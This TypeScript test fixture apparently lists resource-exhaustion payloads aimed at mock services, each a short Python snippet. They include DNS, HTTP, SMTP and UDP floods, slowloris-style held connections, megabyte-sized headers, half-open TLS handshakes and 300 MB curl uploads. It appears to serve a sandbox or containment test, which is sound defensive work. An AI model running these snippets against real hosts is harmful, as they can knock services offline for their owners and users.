import { type Payload, user } from './payload.ts';

/** Target: the mock services. */
export const internetPayloads: Payload[] = [
  user(
    'names-by-the-thousand',
    "import socket\nfor turn in range(20000):\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\5h%04d\\4test\\0\\0\\1\\0\\1' % (turn % 10000), ('127.0.0.1', 53)); s.close()",
  ),
  user(
    'large-bodies',
    "import os\nos.system('head -c 300000000 /dev/zero > /tmp/b; for n in 1 2 3; do curl -s --data-binary @/tmp/b http://files.example/ > /dev/null; done; rm /tmp/b')",
  ),
  user(
    'half-requests',
    "import socket\nkept = []\nfor turn in range(500):\n    try:\n        s = socket.create_connection(('files.example', 80), timeout=5); s.sendall(b'POST / HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 100000\\r\\n\\r\\nx'); kept.append(s)\n    except OSError: break",
  ),
  user(
    'requests-by-the-thousand',
    "import http.client\nfor turn in range(5000):\n    c = http.client.HTTPConnection('files.example', timeout=5); c.request('GET', '/%d?' % turn + 'x' * 1000); c.getresponse().read(); c.close()",
  ),
  user(
    'headers-of-a-megabyte',
    "import socket\nfor turn in range(20):\n    try:\n        s = socket.create_connection(('files.example', 80), timeout=5); s.sendall(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n' + b'A: ' + b'x' * (1 << 20) + b'\\r\\n\\r\\n'); s.recv(100)\n    except OSError: pass",
  ),
  user(
    'half-handshakes',
    "import socket\nkept = []\nfor turn in range(500):\n    try:\n        s = socket.create_connection(('files.example', 443), timeout=5); s.sendall(b'\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03'); kept.append(s)\n    except OSError: break",
  ),
  user(
    'mails-by-the-thousand',
    "import smtplib\nserver = smtplib.SMTP('mail.example', 25, timeout=5)\nfor turn in range(2000): server.sendmail('user@mail.example', ['a@b.example'], 'Subject: %d\\r\\n\\r\\n' % turn + 'x' * 1000)",
  ),
  user(
    'datagrams-by-the-thousand',
    "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nfor turn in range(50000):\n    try: s.sendto(b'x' * 1000, ('198.18.%d.%d' % (turn % 200, turn // 200), 1000 + turn % 60000))\n    except OSError: pass",
  ),
];
